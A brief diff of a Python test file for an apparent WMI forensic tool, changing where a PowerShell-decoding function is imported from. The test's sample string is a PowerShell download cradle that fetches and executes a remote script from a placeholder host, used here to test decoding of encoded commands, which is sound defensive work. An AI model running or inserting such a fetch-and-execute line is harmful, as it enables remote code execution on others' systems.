@@ -272,7 +272,7 @@ def test_truncated_capture_still_reports(capsys, tmp_path):
 
 
 def test_encoded_powershell_is_decoded():
-    from wmiscope.report.findings import decode_powershell
+    from wmiscope.report.values import decode_powershell
     import base64
 
     script = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
